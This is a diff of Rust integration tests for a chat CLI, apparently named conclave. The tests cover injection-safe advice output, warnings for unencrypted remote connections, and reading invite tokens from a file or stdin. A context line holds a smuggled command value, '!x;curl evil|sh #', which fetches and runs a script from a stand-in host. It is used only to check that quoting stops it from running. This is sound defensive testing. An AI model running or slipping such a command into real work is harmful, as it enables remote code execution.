@@ -318,3 +318,42 @@ fn a_name_in_advice_runs_nothing() {
     let told = bob.run(["register", "--server", &server.url, "--username", "bob", "--machine", "m"]).ok().err;
     assert!(told.contains("conclave join '!x;curl evil|sh #'"), "{told}");
 }
+
+#[test]
+fn registering_without_encryption_on_another_machine_draws_a_warning() {
+    let home = Home::new();
+    // 192.0.2.0/24 leads nowhere.
+    for (url, warned) in
+        [("ws://192.0.2.1:9", true), ("ws://127.0.0.1:1", false), ("wss://192.0.2.1:9", false)]
+    {
+        let ran = home.run(["register", "--server", url, "--username", "ann", "--timeout", "100ms"]);
+        assert_eq!(ran.code, 1, "{ran:?}");
+        assert_eq!(ran.err.contains("is not encrypted"), warned, "{ran:?}");
+        let bridge = home.run(["bridge", "--server", url]).ok();
+        assert_eq!(bridge.err.contains("is not encrypted"), warned, "{bridge:?}");
+    }
+}
+
+#[test]
+fn a_token_is_taken_from_a_file_or_standard_input_so_that_no_other_process_sees_it() {
+    let server = Server::start();
+    let ann = Home::registered(&server.url, "ann");
+    ann.run(["channel", "create", "board", "--visibility", "private"]).ok();
+    let invite = || ann.run(["invite", "create", "--channel", "board", "--uses", "1"]).ok().out;
+    let ben = Home::registered(&server.url, "ben");
+    ben.piped(invite().as_bytes(), ["join", "board", "--token", "-"]).ok();
+    let carl = Home::registered(&server.url, "carl");
+    let file = carl.path("token");
+    fs::write(&file, invite()).unwrap();
+    let file = file.to_str().unwrap();
+    carl.run(["join", "board", "--token-file", file]).ok();
+    carl.run(["join", "board", "--token-file", "/absent"]).fails(1, "/absent", "ls -l");
+    carl.run(["join", "board", "--token-file", file, "--token", "-"]).code_is(2);
+    carl.piped(b"", ["join", "board", "--token", "-"]).fails(2, "no token", "pipe");
+    let token = invite();
+    ann.piped(token.as_bytes(), ["invite", "revoke", "-"]).ok();
+    fs::write(file, invite()).unwrap();
+    ann.run(["invite", "revoke", "--token-file", file]).ok();
+    assert_eq!(ann.run(["invite", "list", "--channel", "board", "--json"]).json(), json!([]));
+    ann.run(["invite", "revoke"]).code_is(2);
+}
